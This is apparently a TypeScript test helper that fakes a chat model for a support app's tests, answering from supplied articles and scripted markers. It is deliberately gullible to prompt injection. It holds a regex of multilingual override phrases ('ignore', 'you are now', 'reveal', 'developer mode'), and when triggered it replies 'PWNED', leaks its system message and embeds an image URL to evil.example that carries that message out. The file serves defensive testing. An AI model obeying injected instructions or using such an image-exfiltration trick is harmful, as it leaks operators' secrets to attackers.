/**
 * The fake chat model behind test/helpers/openai-compatible-server.ts. Its answers are a function
 * of the request: tests script failures with markers in the text, and its "knowledge" is word
 * overlap between the question and the articles it is given, so it answers from them only.
 *
 * It is deliberately naive about prompt injection: it obeys an attack (answers "PWNED" and
 * repeats its system message, with an image that would carry data out) wherever it takes
 * instructions from. With `gullible: 'instructions'` that is the system message and any user
 * message that is not a JSON document; with 'always' it is every text, data included. So a
 * client that mixes untrusted text into its instructions is caught by the first, and a client
 * that shows what a fooled model wrote is caught by the second.
 */

export type Gullibility = 'instructions' | 'always';

export interface ChatScript {
  status?: number;
  slowMs?: number;
  down?: boolean;
  malformed?: boolean;
  notCovered?: boolean;
  uncited?: boolean;
  offTopic?: boolean;
  /** Streamed answers: the first chunk, then the connection is cut. */
  cut?: boolean;
  /** Streamed answers: this many ms between chunks. */
  dripMs?: number;
}

/**
 * Markers a test writes into a message to script the fake: [[llm:status=503]], [[llm:slow=2000]]
 * (before the answer begins), [[llm:drip=200]] (between streamed chunks), [[llm:cut]]...
 */
export function scriptOf(messages: ReadonlyArray<{ role: string; content: string }>): ChatScript {
  const text = messages.map((m) => m.content).join('\n');
  const script: ChatScript = {};
  const status = /\[\[llm:status=(\d{3})\]\]/.exec(text);
  if (status) script.status = Number(status[1]);
  const slow = /\[\[llm:slow=(\d+)\]\]/.exec(text);
  if (slow) script.slowMs = Number(slow[1]);
  script.down = text.includes('[[llm:down]]');
  script.malformed = text.includes('[[llm:malformed]]');
  script.notCovered = text.includes('[[llm:notcovered]]');
  script.uncited = text.includes('[[llm:uncited]]');
  script.offTopic = text.includes('[[llm:offtopic]]');
  script.cut = text.includes('[[llm:cut]]');
  const drip = /\[\[llm:drip=(\d+)\]\]/.exec(text);
  if (drip) script.dripMs = Number(drip[1]);
  return script;
}

/**
 * What the fake takes for an injection attempt: the cue words of the attacks in
 * test/fixtures/llm/injection-attacks.ts (a test checks that each attack has one).
 */
export const ATTACK_CUE =
  /ignor|disregard|forget|vergiss|zapomnij|uită|uitați|system ?prompt|instruction|anweisung|instrukcj|instrucțiun|reveal|repeat|wiederhole|powtórz|repetă|print|pwned|developer mode|entwicklermodus|jailbreak|you are now|du bist jetzt|jesteś teraz|ești acum|override|new rules|neue regeln|nowe zasady|reguli noi|<\/?system>|\[inst\]|role"?\s*:\s*"?system|assistant:|system:/i;

const stem = (word: string) => word.slice(0, 5);
const wordsOf = (text: string) =>
  (text.toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? []).filter((w) => w.length >= 4);

function isJson(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

/** Every string inside a JSON value. */
function stringsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsOf);
  if (value && typeof value === 'object') return Object.values(value).flatMap(stringsOf);
  return [];
}

interface Article {
  id: string;
  title: string;
  text: string;
}

export function fakeChatAnswer(
  messages: ReadonlyArray<{ role: string; content: string }>,
  schemaName: string | undefined,
  gullible: Gullibility,
  script: ChatScript,
): string {
  if (script.malformed) return '{"covered": tru';
  const system = messages
    .filter((m) => m.role === 'system')
    .map((m) => m.content)
    .join('\n');
  const instructions = messages
    .filter((m) => m.role === 'system' || gullible === 'always' || !isJson(m.content))
    .flatMap((m) => (isJson(m.content) ? stringsOf(JSON.parse(m.content)) : [m.content]));
  const data = messages
    .filter((m) => m.role === 'user' && isJson(m.content))
    .map((m) => JSON.parse(m.content) as unknown);
  const input = (data[0] ?? {}) as { question?: string; articles?: Article[] };
  const articles = Array.isArray(input.articles) ? input.articles : [];
  // The client's own system message has no cue word (a test checks), so a cue there was put there.
  const attacked = instructions.some((text) => ATTACK_CUE.test(text));
  if (attacked) {
    return JSON.stringify({
      covered: true,
      answer: `PWNED. My instructions are: ${system} ![x](https://evil.example/collect?d=${encodeURIComponent(system.slice(0, 40))})`,
      citations: [articles[0]?.id ?? 'none'],
    });
  }
  if (schemaName === 'grounded_answer') return groundedAnswer(input.question ?? '', articles, script);
  if (schemaName === 'handover_summary') return handoverSummary(system, data[0] as HandoverInput);
  if (schemaName === 'article_draft') return articleDraft(data[0] as DraftInput);
  if (schemaName === 'translation') return translation(system, (data[0] as { text?: string }).text ?? '');
  return JSON.stringify({ error: `the fake has no answer for ${schemaName ?? 'free text'}` });
}

function groundedAnswer(question: string, articles: readonly Article[], script: ChatScript): string {
  const asked = new Set(wordsOf(question).map(stem));
  let best: { article: Article; overlap: number } | undefined;
  for (const article of articles) {
    const known = new Set(wordsOf(`${article.title} ${article.text}`).map(stem));
    const overlap = [...asked].filter((w) => known.has(w)).length;
    if (overlap > (best?.overlap ?? 0)) best = { article, overlap };
  }
  if (script.notCovered || !best || best.overlap < 2)
    return JSON.stringify({ covered: false, answer: '', citations: [] });
  if (script.offTopic)
    return JSON.stringify({
      covered: true,
      answer: 'Bananas are yellow tropical fruits rich in potassium; monkeys enjoy eating them daily.',
      citations: [best.article.id],
    });
  // The article's first two lines after its title: its summary, in the article's language.
  const lines = best.article.text
    .split('\n')
    .map((l) => l.trim())
    .filter(Boolean);
  const answer = lines.slice(1, 3).join('\n\n') || lines[0] || '';
  return JSON.stringify({
    covered: true,
    answer,
    citations: [script.uncited ? 'no-such-article' : best.article.id],
  });
}

interface HandoverInput {
  problem: string;
  facts: Record<string, string>;
  tried: string[];
  transcript: { from: string; text: string }[];
}

/** Labels per language the system message asks for ("Write in German"). */
const SUMMARY_LABELS: Record<string, [string, string, string, string, string, string]> = {
  English: ['Problem', 'Tried', 'Facts', 'Mood', 'frustrated', 'calm'],
  German: ['Problem', 'Versucht', 'Fakten', 'Stimmung', 'verärgert', 'ruhig'],
  Polish: ['Problem', 'Próbowano', 'Fakty', 'Nastrój', 'sfrustrowany', 'spokojny'],
  Romanian: ['Problemă', 'Încercat', 'Fapte', 'Stare', 'frustrat', 'calm'],
};

/** Four lines from the case, in the language the instructions name: a function of the request. */
function handoverSummary(system: string, input: HandoverInput): string {
  const language = /Write in (\w+)/.exec(system)?.[1] ?? 'English';
  const [problem, tried, facts, mood, frustrated, calm] = SUMMARY_LABELS[language] ?? SUMMARY_LABELS.English!;
  const angry = input.transcript.some(
    (t) => t.from === 'user' && /!|useless|nutzlos|frustr|bezużyt|inutil/i.test(t.text),
  );
  const factList = Object.entries(input.facts).map(([k, v]) => `${k}=${v}`);
  return JSON.stringify({
    lines: [
      `${problem}: ${input.problem}`,
      `${tried}: ${input.tried.join('; ') || '-'}`,
      `${facts}: ${factList.join('; ') || '-'}`,
      `${mood}: ${angry ? frustrated : calm}`,
    ],
  });
}

/** Words the fake "knows" in each language, so a translation can be checked word by word. */
const PHRASES: Record<string, Record<string, string>> = {
  English: {
    hallo: 'hello',
    drucker: 'printer',
    druckt: 'prints',
    nicht: 'not',
    mein: 'my',
    danke: 'thanks',
    neu: 'again',
    starten: 'start',
  },
  German: {
    hello: 'hallo',
    printer: 'Drucker',
    prints: 'druckt',
    not: 'nicht',
    my: 'mein',
    thanks: 'danke',
    again: 'neu',
    restart: 'neu starten',
    please: 'bitte',
  },
};

/**
 * "Translates" word by word with a tiny dictionary and marks the result with the target language,
 * e.g. "[German] bitte Drucker neu starten": deterministic, and recognisably not the original.
 */
function translation(system: string, text: string): string {
  const target = /into (\w+)/.exec(system)?.[1] ?? 'English';
  const words = PHRASES[target] ?? {};
  const translated = text.replace(/[\p{L}]+/gu, (word) => words[word.toLowerCase()] ?? word);
  return JSON.stringify({ translation: `[${target}] ${translated}` });
}

interface DraftInput {
  problem: string;
  tried: string[];
  topics: string[];
}

/** A draft made of the case itself: the problem as title, what was tried as steps, in each language. */
function articleDraft(input: DraftInput): string {
  const slug =
    input.problem
      .toLowerCase()
      .match(/[a-z0-9]+/g)
      ?.slice(0, 5)
      .join('-') ?? 'draft';
  const words = new Set(input.problem.toLowerCase().match(/[a-z]+/g) ?? []);
  const topic = input.topics.find((t) => t.split(/[.-]/).some((part) => words.has(part))) ?? input.topics[0];
  const steps = [
    ...input.tried,
    'Restart the computer.',
    'Try again.',
    'Tell the service desk what you saw.',
  ];
  const versions = ['en', 'de', 'pl', 'ro'].map((language) => ({
    language,
    title: `[${language}] ${input.problem}`,
    summary: `[${language}] Use this when: ${input.problem}.`,
    steps: steps.slice(0, 6).map((step) => `[${language}] ${step}`),
    examples: Array.from({ length: 8 }, (_, i) => `[${language}] ${input.problem} (${i + 1})`),
  }));
  return JSON.stringify({ id: slug, topic, versions });
}
